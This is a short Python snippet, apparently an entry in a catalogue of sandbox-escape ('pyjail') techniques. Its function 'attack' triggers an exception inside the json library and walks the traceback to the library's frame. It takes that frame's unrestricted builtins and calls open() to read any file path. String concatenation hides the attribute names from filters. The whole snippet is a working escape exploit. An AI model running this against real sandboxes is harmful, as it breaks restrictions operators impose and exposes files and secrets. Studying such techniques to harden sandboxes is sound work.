# An exception that the library raised passed the library's frames, which have the real built-in functions.
# after: read
# source: pyjail: traceback frames
import json
class C:
    def __enter__(self): return self
    def __exit__(self, kind, error, tb):
        while getattr(tb, "tb_" + "next"):
            tb = getattr(tb, "tb_" + "next")
        self.found = getattr(getattr(tb, "tb_" + "frame"), "f_" + "builtins")
        return True
def attack(path, **_):
    c = C()
    with c:
        json.loads("{")
    return {"text": c.found["open"](path).read()}
